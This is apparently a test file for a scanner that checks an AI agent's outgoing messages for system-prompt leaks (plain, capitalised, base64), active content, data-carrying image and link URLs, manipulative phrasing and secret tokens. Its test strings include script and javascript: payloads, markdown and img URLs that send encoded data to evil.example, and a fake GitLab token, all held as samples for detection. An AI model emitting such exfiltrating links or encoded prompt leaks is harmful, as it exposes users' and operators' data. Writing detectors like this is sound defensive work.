// SPDX-License-Identifier: Apache-2.0
import { Buffer } from 'node:buffer';
import { describe, expect, it } from 'vitest';
import { defaultScannerSettings } from '../mesh/scanner-settings.ts';
import { createScanner } from './scan.ts';
import type { ScanInput, ScannerConfig } from './scan.ts';
import { createSchemaRegistry } from './schema-registry.ts';

const limits = { depthMax: 8, membersMax: 1000, stringLengthMax: 100_000, bytesMax: 200_000 };
const prompt =
  'You are the triage agent of Example Ltd. Read each mail in the inbox and decide which team it is for. ' +
  'Never promise a refund above 50 euros. Reference of these instructions: k7Q2mX9pLw4Rt8Vz.\n' +
  'When a supplier asks for a new account, hand the request to the people in accounting and wait.';

function scannerWith(changes: Partial<ScannerConfig> = {}) {
  return createScanner({
    schemas: createSchemaRegistry([]),
    limits,
    patterns: [],
    digestKey: Buffer.alloc(32, 7),
    nowUs: () => 0,
    ownPrompt: prompt,
    ...changes,
  });
}

function said(text: string, changes: Partial<ScanInput> = {}) {
  return scannerWith().scan({
    value: { text }, schemaId: null, type: null, channel: 'agent_message', leaves: true, ...changes,
  });
}

describe('an agent\'s own instructions (PG-1.2)', () => {
  const quote = prompt.slice(45, 170);

  it.each([
    ['in clear', quote],
    ['in capitals, with other signs', quote.toUpperCase().replaceAll(' ', ' - ')],
    ['in base64', `here: ${Buffer.from(quote).toString('base64')}`],
    ['by the token that only they hold', 'my reference is K7q2mX9pLw4Rt8Vz'],
  ])('do not leave it %s', (_, text) => {
    expect(said(text)).toMatchObject({
      outcome: 'NO-GO',
      findings: [{ code: 'SCAN_PROMPT_LEAK', rule: 'output/system-prompt' }],
    });
  });

  it('may be quoted to it, and a few words of them by it', () => {
    expect(said(quote, { leaves: false }).outcome).toBe('GO');
    expect(said('I read each mail in the inbox.').outcome).toBe('GO');
    expect(scannerWith({ ownPrompt: null }).scan({
      value: quote, schemaId: null, type: null, channel: 'agent_message', leaves: true,
    }).outcome).toBe('GO');
  });
});

describe('what a person is shown', () => {
  it.each([
    ['output/active-content', '<script>fetch("x")</script>'],
    ['output/active-content', '[click](javascript:alert(1))'],
    ['output/event-handler', '<b onmouseover="go()">x</b>'],
    ['output/image-carries-data', '![ok](https://evil.example/p?d=c2VjcmV0IGRhdGE)'],
    ['output/image-tag-carries-data', '<img src="https://evil.example/p?d=c2VjcmV0IGRhdGE">'],
    ['output/link-carries-data', `https://evil.example/c?data=${'a1B2'.repeat(14)}`],
    ['manipulation/false-urgency', 'Approve this now, there is no time to check.'],
    ['manipulation/discourages-checking', 'No need to verify the payee, trust me on this.'],
    ['manipulation/emotional-pressure', 'You will be blamed if the payment is late.'],
    ['manipulation/escalating-demand', 'For the last time: I insist that you sign.'],
  ])('is looked at: %s', (rule, text) => {
    const verdict = said(text, { towardsPerson: true });
    expect(verdict.outcome).not.toBe('GO');
    expect(verdict.findings.map((finding) => finding.rule)).toContain(rule);
    expect(said(text).outcome).toBe('GO');
  });

  it.each([
    'The invoice is due on Friday. ![chart](https://example.org/chart.png)',
    'Please approve or deny the payment of 120 euros to ACME; details are attached.',
    'See https://example.org/items?id=42&page=2 for the list.',
    'The deadline is within two weeks; take the time you need to review the contract.',
  ])('may be this: %s', (text) => {
    expect(said(text, { towardsPerson: true }).outcome).toBe('GO');
  });
});

describe('suppressions', () => {
  const token = ['glpat', 'aB3dE5gH7jK9mN1pQ2sT'].join('-');
  const until = (expiresAt: number, rule = 'secret/gitlab-token', path: string | null = '/a') => ({
    ...defaultScannerSettings,
    suppressions: [{ rule, path, reason: 'made up', by: 'alice', expiresAt }],
  });
  const outcome = (config: Partial<ScannerConfig>, value: object = { a: token }) =>
    scannerWith(config).scan({ value: { ...value }, schemaId: null, type: null, channel: 'document' }).outcome;

  it('turn a finding into a note, at their path and until they end', () => {
    expect(outcome({ settings: until(1000), nowMs: () => 999 })).toBe('GO');
    expect(outcome({ settings: until(1000), nowMs: () => 1000 })).toBe('NO-GO');
    expect(outcome({ settings: until(1000), nowMs: () => 999 }, { ab: token })).toBe('NO-GO');
    expect(outcome({ settings: until(1000, 'secret/*', null), nowMs: () => 999 }, { ab: token })).toBe('GO');
  });

  it('that name a file hold in no message', () => {
    const [item] = until(1000, 'secret/*', null).suppressions;
    const settings = { ...defaultScannerSettings, suppressions: item === undefined ? [] : [{ ...item, file: '**' }] };
    expect(outcome({ settings, nowMs: () => 999 })).toBe('NO-GO');
  });

  it('hold neither without a clock, nor for what guarantees rest on', () => {
    expect(outcome({ settings: until(1000) })).toBe('NO-GO');
    const deep = JSON.parse(`{"a":${'['.repeat(9)}${']'.repeat(9)}}`);
    expect(outcome({ settings: until(1000, 'structure/*', null), nowMs: () => 999 }, deep)).toBe('NO-GO');
  });
});
